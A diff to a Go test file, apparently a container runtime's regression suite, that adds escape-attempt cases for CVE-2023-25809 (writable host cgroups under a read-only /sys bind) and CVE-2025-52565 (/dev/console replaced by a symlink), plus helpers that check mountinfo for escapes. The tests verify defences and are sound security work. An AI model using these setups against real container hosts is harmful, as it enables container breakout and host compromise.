@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"net"
 	"os"
 	"strings"
 	"time"
@@ -76,6 +77,35 @@ var attacksOnMounts = []attack{
 		without: []way{{edit: again("a") + again("b") + again("c")}},
 	},
 	{
+		name: "CVE-2023-25809", what: "a read-only bind of /sys has the host's cgroups below it",
+		try: func(s *stage) string {
+			s.Config.unmount("/sys")
+			s.Config.mount("/sys", "bind", "/sys", "rbind", "ro", "nosuid", "nodev", "noexec")
+			s.Config.at("linux")["readonlyPaths"] = []string{}
+			s.Config.at("linux")["maskedPaths"] = []string{}
+			out, status := s.run("cat", "/proc/self/mountinfo")
+			for _, m := range mountLines(out) {
+				if status == 0 && strings.HasPrefix(m.point, "/sys/fs/cgroup") && !strings.HasPrefix(m.options, "ro") {
+					return "read-write: " + m.point
+				}
+			}
+			return ""
+		},
+		without: []way{{edit: "clear 2 0x8000 ^mount_setattr.*mounts\\[5\\]"}},
+	},
+	{
+		name: "CVE-2025-52565", what: "/dev/console is a link: the terminal is attached to what it leads to",
+		try: func(s *stage) string {
+			s.Config.unmount("/dev")
+			s.Config.mount("/dev/pts", "devpts", "devpts", "newinstance", "ptmxmode=0666")
+			s.Config.at("process")["terminal"] = true
+			s.link(s.victim+"/file", "dev/console")
+			return s.escapedAtConsole()
+		},
+		// O_PATH|O_CLOEXEC, without O_NOFOLLOW.
+		without: []way{{edit: "resolve 0 process.terminal: find it\ndata 2 0 0x280000 process.terminal: find it"}},
+	},
+	{
 		name: "CVE-2024-45310", what: "mount points that are missing below directories that are swapped for links again and again",
 		try: func(s *stage) string {
 			s.swapped("a/new/x", "b/new/y", "c/new/z")
@@ -102,6 +132,7 @@ func (s *stage) swapped(names ...string) {
 		if below {
 			target = s.victim
 		}
+		must(s.t, os.MkdirAll(s.path(s.victim)+"/folder", 0o755)) // so that the link leads somewhere in the image, too
 		must(s.t, os.Symlink(target, volume+"/"+first+".link"))
 		s.background(swapper, volume+"/"+first, volume+"/"+first+".link")
 		s.Config.mount("/volume/"+name, "tmpfs", "hostile", "ro")
@@ -112,7 +143,11 @@ func (s *stage) swapped(names ...string) {
 func (s *stage) race(round func() string) string {
 	rounds := 0
 	defer func() { s.t.Logf("%d rounds", rounds) }()
-	for end := time.Now().Add(raceTime()); time.Now().Before(end); rounds++ {
+	limit := raceTime()
+	if s.way != nil {
+		limit += 30 * time.Second // it ends with the first success
+	}
+	for end := time.Now().Add(limit); time.Now().Before(end); rounds++ {
 		if won := round(); won != "" {
 			return won
 		}
@@ -125,30 +160,51 @@ func raceTime() time.Duration {
 	if d, err := time.ParseDuration(os.Getenv("ATTACK_SECONDS") + "s"); err == nil {
 		return d
 	}
-	return 2 * time.Second
+	return 3 * time.Second
 }
 
-// escaped runs the container, and says what it changed on the host, or has mounted there or read-write.
-func (s *stage) escaped() string {
-	list := s.dir + "/mountinfo"
+// escapedAtConsole is escaped for a container with a terminal.
+func (s *stage) escapedAtConsole() string {
+	socket := s.dir + "/console"
+	l, err := net.Listen("unix", socket)
+	must(s.t, err)
+	defer l.Close()
+	list := s.watchMounts()
+	s.Config.args("true")
+	s.save()
+	s.rt("create", "--console-socket", socket, "--bundle", s.bundle, s.newID())
+	return s.attachedOutside(list)
+}
+
+// watchMounts has the mounts of the container written down while the host can still be seen from its mount namespace.
+func (s *stage) watchMounts() (list string) {
+	list = s.dir + "/mountinfo"
 	_ = os.Remove(list)
-	// While this hook runs, the host can still be seen from the container's mount namespace.
 	s.Config.at("hooks")["createContainer"] = []any{map[string]any{"path": "/bin/sh", "args": []string{"sh", "-c", "cat /proc/self/mountinfo >" + list}}}
-	out, status := s.run("cat", "/proc/self/mountinfo")
+	return list
+}
+
+// attachedOutside says what was mounted on the victim.
+func (s *stage) attachedOutside(list string) string {
 	text, _ := os.ReadFile(list)
 	for _, m := range mountLines(string(text)) {
 		if strings.HasPrefix(m.point, s.victim) {
 			return "mounted at " + m.point
 		}
 	}
-	if status == 0 {
-		for _, m := range mountLines(out) {
-			if strings.HasPrefix(m.point, "/volume/") && !strings.HasPrefix(m.options, "ro") {
-				return "read-write: " + m.point
-			}
+	return s.harmed()
+}
+
+// escaped runs the container, and says what it changed on the host, or has mounted there or read-write.
+func (s *stage) escaped() string {
+	list := s.watchMounts()
+	out, status := s.run("cat", "/proc/self/mountinfo")
+	for _, m := range mountLines(out) {
+		if status == 0 && strings.HasPrefix(m.point, "/volume/") && !strings.HasPrefix(m.options, "ro") {
+			return "read-write: " + m.point
 		}
 	}
-	return s.harmed()
+	return s.attachedOutside(list)
 }
 
 // mountLine is a line of /proc/PID/mountinfo: proc(5).
